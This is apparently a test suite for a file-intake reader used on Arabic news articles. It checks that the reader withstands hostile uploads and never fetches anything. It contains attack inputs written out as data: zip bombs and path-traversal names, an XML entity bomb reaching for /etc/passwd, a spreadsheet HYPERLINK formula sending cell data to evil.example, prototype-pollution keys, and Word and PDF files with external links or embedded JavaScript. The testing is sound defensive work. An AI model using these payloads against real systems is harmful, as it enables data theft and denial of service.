import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { strToU8, zipSync } from "fflate";
import { afterEach, describe, expect, it, vi } from "vitest";
import { type InputReading, readInput } from "@/intake";
import { isPolluted } from "./arbitrary";
import { patience, runs } from "./runs";

const sentence = "قال وزير المياه سالم الحداد إن السد الجديد لن يمس حصة القرى من مياه النهر هذا العام.";
const article = `السد الجديد لن يمس حصة القرى\n\n${sentence}\n\n${sentence}`;

const readBytes = (bytes: Uint8Array<ArrayBuffer>) => readInput({ name: "file", bytes });
const readText = (text: string) => readInput({ name: "file", bytes: new TextEncoder().encode(text) });
const reasons = (readings: readonly InputReading[]) =>
  readings.map((reading) => (reading.kind === "refused" ? reading.reason.kind : reading.kind));
const textOf = (reading: InputReading | undefined) => (reading?.kind === "article" ? reading.draft.text : "");

/** Nothing is asked of any site while a file is read. */
const fetched = vi.spyOn(globalThis, "fetch");
afterEach(() => {
  expect(fetched).not.toHaveBeenCalled();
  expect(isPolluted()).toBe(false);
});

const files = join(import.meta.dirname, "..", "intake", "files");
const samples = readdirSync(files, { recursive: true, encoding: "utf8" }).filter(
  (path) => /\.\w+$/.test(path) && !path.endsWith(".md"),
);

describe("a file that was cut or changed on its way", () => {
  it.each(samples)("gives what is whole in it, or says why not: %s", { timeout: patience }, async (path) => {
    const whole = new Uint8Array(readFileSync(join(files, path)));
    const wounds = fc.record({
      cut: fc.option(fc.double({ min: 0, max: 1, noNaN: true })),
      bytes: fc.array(fc.tuple(fc.double({ min: 0, max: 1, noNaN: true }), fc.nat(255)), { maxLength: 12 }),
    });
    await fc.assert(
      fc.asyncProperty(wounds, async ({ cut, bytes }) => {
        const wounded = whole.slice(0, cut === null ? whole.length : Math.floor(cut * whole.length));
        for (const [at, byte] of bytes) wounded[Math.floor(at * wounded.length)] = byte;
        const readings = await readBytes(wounded);
        expect(readings.length).toBeGreaterThan(0);
        for (const reading of readings) {
          if (reading.kind !== "article") continue;
          const { text, lines } = reading.draft;
          expect(lines.map(({ start, end }) => text.slice(start, end)).join("\n")).toBe(text);
        }
      }),
      { ...runs, numRuns: Math.max(3, Math.floor((runs.numRuns ?? 100) / 50)) },
    );
  });
});

describe("an archive", () => {
  it("in archives in archives is opened so deep and no deeper, and the others are read", async () => {
    let nested = zipSync({ "a.txt": strToU8(article) });
    for (let depth = 0; depth < 8; depth += 1)
      nested = zipSync({ "in.zip": nested, "b.txt": strToU8(article) });
    const readings = await readBytes(nested);
    expect(reasons(readings).filter((reason) => reason === "packed-too-deep")).toHaveLength(1);
    expect(reasons(readings).filter((reason) => reason === "article").length).toBeGreaterThanOrEqual(3);
  });

  it("of a file that swells beyond what is read is stopped there", { timeout: patience }, async () => {
    const bomb = zipSync({ "a.txt": new Uint8Array(33_000_000), "b.txt": strToU8(article) });
    expect(bomb.length).toBeLessThan(100_000);
    expect(reasons(await readBytes(bomb)).toSorted()).toEqual(["article", "unpacks-too-large"]);
  });

  it("of many that swell together is stopped too", { timeout: patience }, async () => {
    const one = zipSync({ "a.bin": new Uint8Array(31_000_000) });
    const many = Object.fromEntries(Array.from({ length: 9 }, (_, at) => [`${at}.zip`, one]));
    const readings = await readBytes(zipSync({ "first.txt": strToU8(article), ...many }));
    expect(readings[0]?.kind).toBe("article");
    expect(reasons(readings)).toContain("unpacks-too-large");
    expect(readings.length).toBeLessThan(12);
  });

  it("with paths that lead out of it is no more than its names", async () => {
    const [reading] = await readBytes(zipSync({ "../../etc/passwd.txt": strToU8(article) }));
    expect(reading).toMatchObject({ kind: "article", within: "../../etc/passwd.txt" });
  });

  it("that is locked says so", async () => {
    const locked = zipSync({ "a.txt": strToU8(article) });
    locked[6] = 1;
    expect(await readBytes(locked)).toMatchObject([{ reason: { kind: "locked", is: "zip" } }]);
  });
});

describe("a feed", () => {
  const item = `<item><title>السد</title><link>javascript:alert(1)</link><description>${sentence} &lol9;</description></item>`;
  it("whose names stand for names that stand for names puts nothing in for them", async () => {
    const levels = Array.from(
      { length: 9 },
      (_, at) => `<!ENTITY lol${at + 1} "${`&lol${at};`.repeat(10)}">`,
    );
    const bomb = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY lol0 "lol"><!ENTITY file SYSTEM "file:///etc/passwd">${levels.join("")}]><rss version="2.0"><channel><title>أ</title>${item}</channel></rss>`;
    const [reading] = await readText(bomb);
    expect(textOf(reading).length).toBeLessThan(300);
    if (reading?.kind === "article") expect(reading.draft.address).toBeNull();
  });

  it("of ten thousand items gives the first of them", { timeout: patience }, async () => {
    const readings = await readText(`<rss version="2.0"><channel>${item.repeat(10_000)}</channel></rss>`);
    expect(reasons(readings).at(-1)).toBe("too-many-articles");
  });

  it("in bytes of no encoding is read as far as it goes", async () => {
    const bytes = new TextEncoder().encode(`<rss version="2.0"><channel>${item}</channel></rss>`);
    bytes[60] = 0xff;
    expect(reasons(await readBytes(bytes))).toHaveLength(1);
  });
});

describe("a table", () => {
  it("with formulas has them as the text that they are", async () => {
    const formula = `=HYPERLINK("https://evil.example?"&A1;"${sentence}")`;
    const cell = `"${formula.replaceAll('"', '""')}"`;
    const readings = await readText(
      `title,date,text\n=1+1,2022-01-10,${cell}\n+2,2022-01-11,${cell}\n@3,2022-01-12,${cell}\n`,
    );
    expect(reasons(readings)).toEqual(["article", "article", "article"]);
    expect(textOf(readings[0])).toContain(formula);
  });

  it("whose quotation mark is never closed gives the rows before it, and what it swallows is told", async () => {
    const rows = Array.from({ length: 60 }, (_, at) => `${at},2022-01-10,${sentence}\n`).join("");
    const readings = await readText(`id,date,text\n${rows}61,2022-01-10,"${sentence}\n${rows}`);
    expect(reasons(readings)).toEqual([...Array.from({ length: 60 }, () => "article"), "damaged"]);
    expect(textOf(readings[59])).toBe(textOf(readings[0]));
  });

  it("of records gives those that are sound where a line between them is none, and where the last breaks off", async () => {
    const line = (at: number) => JSON.stringify({ id: at, text: sentence });
    const readings = await readText(
      [line(1), line(2), "{ not one", line(3), line(4).slice(0, 30)].join("\n"),
    );
    expect(reasons(readings)).toEqual(["article", "article", "article", "damaged"]);
  });

  it("in UTF-16 with heads of keys that all objects share is read, and records with such keys are refused", async () => {
    const text = `\uFEFF__proto__\ttext\tconstructor\nx\t${sentence}\ty\nx\t${sentence}\ty\nx\t${sentence}\ty\n`;
    const wide = new Uint8Array(Uint16Array.from(text, (sign) => sign.charCodeAt(0)).buffer);
    expect(reasons(await readBytes(wide))).toEqual(["article", "article", "article"]);
    const line = `{"__proto__":{"polluted":1},"text":${JSON.stringify(sentence)}}\n`;
    expect(reasons(await readText(line.repeat(3)))).toEqual(["json-malformed"]);
  });
});

describe("a mail", () => {
  it.each([
    ["an encoding that nobody knows", "Content-Type: text/plain; charset=x-none\n", sentence],
    ["base64 that is none", "Content-Transfer-Encoding: base64\n", "!!!! %%%%"],
    [
      "parts without an end",
      'Content-Type: multipart/mixed; boundary="a"\n',
      `--a\n\n${sentence}\n--a\nContent-Type: text/html\n\n<p>`,
    ],
  ])("with %s is read as far as it goes, or refused", async (_, head, body) => {
    const readings = await readText(`Message-ID: <1@a.example>\nMIME-Version: 1.0\n${head}\n${body}`);
    expect(readings.length).toBeGreaterThan(0);
  });

  it("with more files than are read gives those before, and the mails behind it, and says once that there are more", async () => {
    const file = (at: number) =>
      `--b\nContent-Type: text/csv; name="${at}.csv"\nContent-Disposition: attachment; filename="${at}.csv"\n\nx\n`;
    const mail = (files: number) =>
      `From a@a.example Mon Jan 10 08:00:00 2022\nMessage-ID: <1@a.example>\nMIME-Version: 1.0\nSubject: خبر\nContent-Type: multipart/mixed; boundary="b"\n\n--b\nContent-Type: text/plain; charset=utf-8\n\n${sentence}\n${Array.from({ length: files }, (_, at) => file(at)).join("")}--b--\n\n`;
    const readings = await readText([mail(4_001), mail(1), mail(0)].join(""));
    expect(readings.map(textOf).filter((text) => text.includes(sentence))).toHaveLength(2);
    expect(reasons(readings).filter((reason) => reason === "too-many-files")).toHaveLength(1);
  });

  it("in mails in mails ends somewhere", async () => {
    let mail = `Content-Type: text/plain; charset=utf-8\n\n${sentence}`;
    for (let depth = 0; depth < 40; depth += 1) {
      mail = `Content-Type: multipart/mixed; boundary="b${depth}"\n\n--b${depth}\nContent-Type: message/rfc822\n\n${mail}\n--b${depth}--\n`;
    }
    expect((await readText(`Message-ID: <1@a.example>\nMIME-Version: 1.0\n${mail}`)).length).toBeGreaterThan(
      0,
    );
  });
});

describe("a document of Word", () => {
  const xml = (body: string) => `<?xml version="1.0" encoding="UTF-8"?>${body}`;
  const relations = (...each: string[]) =>
    xml(
      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${each.join("")}</Relationships>`,
    );
  const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
  const main = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
  const word = (document: string, others: Readonly<Record<string, string>> = {}) =>
    zipSync(
      Object.fromEntries(
        Object.entries({
          "[Content_Types].xml": xml(
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
          ),
          "_rels/.rels": relations(
            `<Relationship Id="r1" Type="${office}/officeDocument" Target="word/document.xml"/>`,
          ),
          "word/document.xml": document,
          ...others,
        }).map(([path, text]) => [path, strToU8(text)]),
      ),
    );
  const body = (text: string) =>
    `<w:document ${main}><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`;

  it("with a template and a picture at another site is its text, and nothing is fetched", async () => {
    const elsewhere = (type: string) =>
      `<Relationship Id="${type}" Type="${office}/${type}" Target="https://evil.example/${type}" TargetMode="External"/>`;
    const readings = await readBytes(
      word(xml(body(`${sentence} ${sentence}`)), {
        "word/settings.xml": xml(`<w:settings ${main}><w:attachedTemplate/></w:settings>`),
        "word/_rels/settings.xml.rels": relations(elsewhere("attachedTemplate")),
        "word/_rels/document.xml.rels": relations(elsewhere("image"), elsewhere("frame")),
      }),
    );
    expect(readings.map(textOf)).toEqual([`${sentence} ${sentence}`]);
  });

  it("whose names stand for names is refused", async () => {
    const bomb = xml(`<!DOCTYPE a [<!ENTITY a "${"ا".repeat(1000)}"><!ENTITY b "&a;&a;&a;">]>${body("&b;")}`);
    expect(await readBytes(word(bomb))).toMatchObject([{ reason: { kind: "damaged", is: "docx" } }]);
  });

  it("nested deeper than any is refused or read, and the desk goes on", { timeout: patience }, async () => {
    const deep = `${"<w:sdt><w:sdtContent>".repeat(20_000)}<w:p/>${"</w:sdtContent></w:sdt>".repeat(20_000)}`;
    const readings = await readBytes(word(xml(`<w:document ${main}><w:body>${deep}</w:body></w:document>`)));
    expect(reasons(readings)).toHaveLength(1);
  });
});

describe("a PDF", () => {
  /** A PDF of so many pages with one line each, as small as the format allows; Latin, since it names a font that every reader has. */
  function pdfOf(pages: number, content: string): Uint8Array<ArrayBuffer> {
    const kids = Array.from({ length: pages }, (_, at) => `${at + 5} 0 R`).join(" ");
    const page =
      "<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 3 0 R/Resources<</Font<</F 4 0 R>>>>>>";
    const objects = [
      "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>",
      `<</Type/Pages/Count ${pages}/Kids[${kids}]>>`,
      `<</Length ${content.length}>>\nstream\n${content}\nendstream`,
      "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
      ...Array.from({ length: pages }, () => page),
    ];
    const written = objects.map((object, at) => `${at + 1} 0 obj\n${object}\nendobj\n`).join("");
    return new TextEncoder().encode(
      `%PDF-1.4\n${written}trailer<</Root 1 0 R/Size ${objects.length + 1}>>\n%%EOF`,
    );
  }

  it("of 5,000 pages gives the first of them, and says how many there are", {
    timeout: patience,
  }, async () => {
    const readings = await readBytes(
      pdfOf(5000, "BT /F 12 Tf 50 700 Td (The minister said that the dam stays as it is.) Tj ET"),
    );
    expect(reasons(readings)).toEqual(["article", "too-many-pages"]);
    expect(readings[1]).toMatchObject({ reason: { count: 5000, most: 500 } });
  });

  it("without text says that its pages are pictures", async () => {
    expect(await readBytes(pdfOf(2, "0 0 100 100 re f"))).toMatchObject([
      { reason: { kind: "no-text", pages: 2 } },
    ]);
  });

  it("of lines upon lines on one page is read, and says that its order is doubtful", {
    timeout: patience,
  }, async () => {
    const line = "BT /F 1 Tf 1 0 0 1 50 Y Tm (said the minister) Tj 100 0 Td (of the dam) Tj ET ";
    const content = Array.from({ length: 700 }, (_, at) => line.replace("Y", `${799 - at * 1.1}`)).join("");
    const [reading] = await readBytes(pdfOf(1, content));
    expect(reading?.kind === "article" && reading.draft.warnings).toContainEqual({ kind: "order", pages: 1 });
  });
});
